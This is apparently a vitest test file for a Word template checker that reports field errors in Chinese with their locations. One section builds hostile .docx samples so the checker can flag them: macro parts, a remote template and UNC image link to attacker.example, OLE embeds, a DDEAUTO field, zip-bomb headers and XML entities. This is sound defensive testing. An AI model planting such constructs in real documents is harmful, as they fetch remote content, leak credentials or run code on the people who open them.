import { Document, Header, Packer, Paragraph } from 'docx'
import JSZip from 'jszip'
import { describe, expect, it } from 'vitest'

import { FORM_KINDS } from '../../../src/documents/forms/all-kinds.ts'
import type { Field } from '../../../src/documents/forms/form-kind.ts'
import { checkTemplate } from '../../../src/documents/templates/check.ts'
import { aDocument, aTable, changed, partOf, tornDocument, withPart } from './a-document.ts'

const FIELDS: readonly Field[] = [
  { name: '标题', hint: '建议的标题', sample: '关于道路', isRequired: true },
  { name: '编号', hint: '建议的编号', sample: '第1号' },
  {
    name: '代表',
    hint: '提出建议的代表，一人一行',
    of: [
      { name: '姓名', hint: '代表的姓名', sample: '代表甲', isRequired: true },
      { name: '电话', hint: '联系电话', sample: '0393-0000000' },
    ],
  },
]

async function found(template: Buffer | Promise<Buffer>) {
  return checkTemplate(await template, FIELDS).map(({ kind, name, place }) => [kind, name, place])
}
async function said(template: Buffer | Promise<Buffer>): Promise<string> {
  return checkTemplate(await template, FIELDS)
    .map(({ message }) => message)
    .join('\n')
}

describe('what is wrong with a template is told with its place', () => {
  it('nothing, where all is as it should be', async () => {
    expect(
      await found(
        aTable([
          ['{标题}', '{编号}'],
          ['{#代表}{姓名}', '{电话}{/代表}'],
        ]),
      ),
    ).toEqual([])
    for (const kind of FORM_KINDS) expect(checkTemplate(await kind.build(), kind.fields), kind.label).toEqual([])
  })

  it('a field that does not exist, with the one that is meant', async () => {
    const template = aDocument('{标题}', '本件是{标题目}的答复，请查收并提出意见')

    expect(await found(template)).toEqual([['unknown_field', '标题目', '第3段“本件是{标题目}的答复，请查收并…”']])
    expect(await said(template)).toBe('没有“标题目”这个字段（写作“{标题目}”）；是不是“标题”？请改正，或删去')
  })

  it('a field that must be there and is not', async () => {
    expect(await found(aDocument('{编号}'))).toEqual([['missing_field', '标题', null]])
    expect(await found(aDocument('{标题}', '{#代表}{电话}{/代表}'))).toEqual([['missing_field', '姓名', null]])
    expect(await said(aDocument('无'))).toContain('请在适当的地方写上“{标题}”')
  })

  it('a repeated part without end, without begin, or across a table', async () => {
    expect(await found(aDocument('{标题}', '{#代表}{姓名}'))).toEqual([['not_closed', '代表', '第3段“{#代表}{姓名}”']])
    expect(await found(aDocument('{标题}{/代表}'))).toEqual([['not_opened', '代表', '第2段“{标题}{/代表}”']])
    expect(
      await found(
        aTable([
          ['{标题}', '{#代表}'],
          ['{姓名}', '甲'],
        ]),
      ),
    ).toEqual([['not_closed', '代表', '第1个表格第1行第2列“{#代表}”']])
    const crossing = changed(await aTable([['{标题}', '{姓名}{/代表}']]), (xml) => xml.replace('表前', '{#代表}'))
    expect(await found(crossing)).toEqual([['crossed', '代表', '第1段“{#代表}”']])
  })

  it('a field of a list outside of it, and a list written like a text', async () => {
    expect(
      await found(
        aTable([
          ['{标题}', '甲'],
          ['乙', '{姓名}'],
        ]),
      ),
    ).toEqual([['misplaced_field', '姓名', '第1个表格第2行第2列“{姓名}”']])
    expect(await said(aDocument('{标题}{代表}'))).toContain('请写成“{#代表}{姓名}{/代表}”')
  })

  it('a tag that formatting, a break, or a wrong brace has broken', async () => {
    const places = async (text: string) =>
      (await found(aDocument('{标题}', text))).map(([kind, , place]) => [kind, place])

    expect(await places('甲{编号')).toEqual([['broken_tag', '第3段“甲{编号”']])
    expect(await places('编号}甲')).toEqual([['broken_tag', '第3段“编号}甲”']])
    expect(await places('｛编号｝')).toEqual([['broken_tag', '第3段“｛编号｝”']])
    expect(await places('{ }')).toEqual([['broken_tag', '第3段“{ }”']])
    expect(await places('{编号|两行}')).toEqual([['broken_tag', '第3段“{编号|两行}”']])
    const broken = changed(await tornDocument({ text: '{标题}{编' }, { text: '号}' }), (xml) =>
      xml.replace('{编</w:t>', '{编</w:t><w:br/>'),
    )
    expect(await said(broken)).toContain('“{编□号}”中间夹着换行、制表符或图片')
  })

  it('in the head of the page too', async () => {
    const file = new Document({
      sections: [
        {
          headers: { first: new Header({ children: [new Paragraph('{机关}')] }) },
          children: [new Paragraph('{标题}')],
        },
      ],
    })

    expect(await found(Packer.toBuffer(file))).toEqual([['unknown_field', '机关', '首页页眉“{机关}”']])
  })
})

describe('what must not come in with a template', () => {
  const TYPES = '[Content_Types].xml'
  const RELATIONS = 'word/_rels/document.xml.rels'
  const related = async (type: string, target: string, mode = ' TargetMode="External"') =>
    changed(
      await aDocument('{标题}'),
      (xml) =>
        xml.replace(
          '</Relationships>',
          `<Relationship Id="rX" Type="http://x/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
        ),
      RELATIONS,
    )

  it('is named: macros, templates and pictures from elsewhere, embedded objects, fields that fetch', async () => {
    const plain = await aDocument('{标题}')
    const hostile = [
      withPart(plain, 'word/vbaProject.bin', 'x'),
      changed(
        plain,
        (xml) => xml.replace('wordprocessingml.document.main', 'ms-word.document.macroEnabled.main'),
        TYPES,
      ),
      related('attachedTemplate', 'http://attacker.example/a.dotm'),
      related('image', 'file:////attacker.example/share/a.png'),
      related('oleObject', 'embeddings/a.docx', ''),
      related('aFChunk', 'afchunk.html', ''),
      withPart(plain, 'word/embeddings/oleObject1.bin', 'x'),
      changed(plain, (xml) =>
        xml.replace('{标题}', '{标题}</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r><w:r><w:t>'),
      ),
    ]
    for (const template of await Promise.all(hostile)) {
      expect(checkTemplate(template, FIELDS).map(({ kind }) => kind)).toContain('dangerous')
    }
    expect(checkTemplate(await related('hyperlink', 'https://www.example.cn'), FIELDS)).toEqual([])
  })

  it('is refused: what swells, what lies about its size, what names entities, what is no document', async () => {
    const plain = await aDocument('{标题}')
    const entities = await changed(plain, (xml) =>
      xml.replace('<w:document', '<!DOCTYPE a [<!ENTITY b "c">]><w:document'),
    )
    const claiming = (sizeBytes: number) => {
      const bytes = Buffer.from(plain)
      bytes.writeUInt32LE(sizeBytes, bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 24)
      return bytes
    }
    const [bomb, lying] = [claiming(200 * 1024 * 1024), claiming(7)]
    const other = await new JSZip().file('a.txt', 'x').generateAsync({ type: 'nodebuffer' })
    const deep = await changed(plain, () => '<a>'.repeat(400) + '</a>'.repeat(400))

    const crowded = await changed(plain, (xml) => xml.replace('<w:body>', `<w:body>${'<a/>'.repeat(1_500_001)}`))

    for (const template of [bomb, entities, lying, other, deep, crowded, plain.subarray(0, 2_000), Buffer.from('PK')]) {
      expect(() => checkTemplate(template, FIELDS)).toThrow(expect.objectContaining({ code: 'FILE_REFUSED' }))
    }
  })

  it('leaves words that only look like fields as they are', async () => {
    expect(await partOf(await aDocument('{标题}'))).toContain('{标题}')
    expect(await found(aDocument('{标题}', '金额{@raw}'))).toEqual([['broken_tag', '@raw', '第3段“金额{@raw}”']])
  })
})
